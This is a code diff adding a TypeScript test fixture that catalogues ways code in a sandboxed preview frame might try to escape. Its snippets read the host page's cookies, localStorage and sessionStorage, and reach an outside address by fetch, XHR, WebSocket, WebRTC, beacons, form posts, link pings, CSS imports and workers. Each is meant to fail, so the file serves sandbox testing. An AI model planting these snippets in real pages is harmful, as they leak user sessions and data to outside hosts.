@@ -1,0 +1,141 @@
+/** A way out of a preview, as a reader's code would try it with the address of another host. */
+export type Attempt = (body: Element, elsewhere: string) => unknown;
+
+/** What a reader's code may try, from a shared link say. Each has to end in an error. */
+export const refused: Record<string, Attempt> = {
+  'reads the page around it': () => parent.document.title,
+  'reads the top page': () => top!.document.title,
+  'reads the storage of the site': () => parent.localStorage.length,
+  'reads the cookies of the site': () => parent.document.cookie,
+  'reads the session of the site': () => top!.sessionStorage.length,
+  'reaches a peer': (_, elsewhere) => new RTCPeerConnection({ iceServers: [{ urls: elsewhere }] }),
+  'reaches a peer from a frame of its own': (body, elsewhere) => {
+    const frame = document.createElement('iframe');
+    body.append(frame);
+    const inside = frame.contentWindow as unknown as typeof globalThis;
+    return new inside.RTCPeerConnection({ iceServers: [{ urls: elsewhere }] });
+  },
+  'fetches from a frame of its own': (body, elsewhere) => {
+    const frame = document.createElement('iframe');
+    body.append(frame);
+    return frame.contentWindow!.fetch(elsewhere, { mode: 'no-cors' });
+  },
+  'listens to events from elsewhere': (_, elsewhere) =>
+    new Promise<void>((resolve, reject) => {
+      const events = new EventSource(elsewhere);
+      events.addEventListener('open', () => resolve());
+      events.addEventListener('error', reject);
+    }),
+  'imports a module from elsewhere': (_, elsewhere) => import(/* @vite-ignore */ elsewhere),
+  'moves the top page': (_, elsewhere) => {
+    top!.location.href = elsewhere;
+  },
+  'opens a popup': (_, elsewhere) => {
+    if (!open(elsewhere)) throw new Error('There is no popup.');
+  },
+  'opens a dialog': () => {
+    if (!confirm('?')) throw new Error('There is no dialog.');
+  },
+  'fetches from elsewhere': async (_, elsewhere) => {
+    await fetch(elsewhere, { mode: 'no-cors' });
+  },
+  'asks elsewhere with XMLHttpRequest': (_, elsewhere) =>
+    new Promise<void>((resolve, reject) => {
+      const request = new XMLHttpRequest();
+      request.addEventListener('load', () => resolve());
+      request.addEventListener('error', reject);
+      request.open('GET', elsewhere);
+      request.send();
+    }),
+  'loads an image from elsewhere': (_, elsewhere) =>
+    new Promise<void>((resolve, reject) => {
+      const image = new Image();
+      image.addEventListener('load', () => resolve());
+      image.addEventListener('error', reject);
+      image.src = elsewhere;
+    }),
+  'loads a script from elsewhere': (_, elsewhere) =>
+    new Promise<void>((resolve, reject) => {
+      const script = document.createElement('script');
+      script.addEventListener('load', () => resolve());
+      script.addEventListener('error', reject);
+      script.src = elsewhere;
+      document.head.append(script);
+    }),
+  'opens a socket to elsewhere': (_, elsewhere) =>
+    new Promise<void>((resolve, reject) => {
+      const socket = new WebSocket(elsewhere.replace('http', 'ws'));
+      socket.addEventListener('open', () => resolve());
+      socket.addEventListener('error', reject);
+    }),
+};
+
+/** These the browser stops without telling the code. */
+export const stopped: Record<string, Attempt> = {
+  'sends a beacon': (_, elsewhere) => void navigator.sendBeacon(elsewhere, 'x'),
+  'sends a form': (body, elsewhere) => {
+    const form = document.createElement('form');
+    Object.assign(form, { action: elsewhere, method: 'post' });
+    body.append(form);
+    form.submit();
+  },
+  'follows a link to a new tab': (body, elsewhere) => {
+    const link = document.createElement('a');
+    Object.assign(link, { href: elsewhere, target: '_blank' });
+    body.append(link);
+    link.click();
+  },
+  'downloads from elsewhere': (body, elsewhere) => {
+    const link = document.createElement('a');
+    Object.assign(link, { href: elsewhere, download: 'x' });
+    body.append(link);
+    link.click();
+  },
+  'prefetches from elsewhere': (_, elsewhere) => {
+    for (const rel of ['prefetch', 'preload', 'modulepreload', 'preconnect', 'stylesheet', 'icon']) {
+      const link = document.createElement('link');
+      Object.assign(link, { rel, href: elsewhere, as: 'script' });
+      document.head.append(link);
+    }
+  },
+  'embeds from elsewhere': (body, elsewhere) => {
+    for (const [tag, name] of [
+      ['object', 'data'],
+      ['embed', 'src'],
+      ['video', 'src'],
+      ['audio', 'src'],
+    ] as const) {
+      const element = document.createElement(tag);
+      element.setAttribute(name, elsewhere);
+      body.append(element);
+    }
+  },
+  'pings from a link': (body, elsewhere) => {
+    const link = document.createElement('a');
+    Object.assign(link, { href: '#here', ping: elsewhere });
+    body.append(link);
+    link.click();
+  },
+  'refreshes to elsewhere': (_, elsewhere) => {
+    const meta = document.createElement('meta');
+    Object.assign(meta, { httpEquiv: 'refresh', content: `0; url=${elsewhere}` });
+    document.head.append(meta);
+  },
+  'asks from a worker': (_, elsewhere) => {
+    const code = `fetch(${JSON.stringify(elsewhere)}, { mode: 'no-cors' })`;
+    void new Worker(URL.createObjectURL(new Blob([code])));
+  },
+  'styles itself from elsewhere': (_, elsewhere) => {
+    const style = document.createElement('style');
+    style.textContent = `@import '${elsewhere}'; body { background: url('${elsewhere}'); }`;
+    document.head.append(style);
+  },
+  'frames elsewhere': (body, elsewhere) => {
+    const frame = document.createElement('iframe');
+    frame.src = elsewhere;
+    body.append(frame);
+  },
+  'moves itself': (_, elsewhere) => {
+    location.href = elsewhere;
+  },
+};
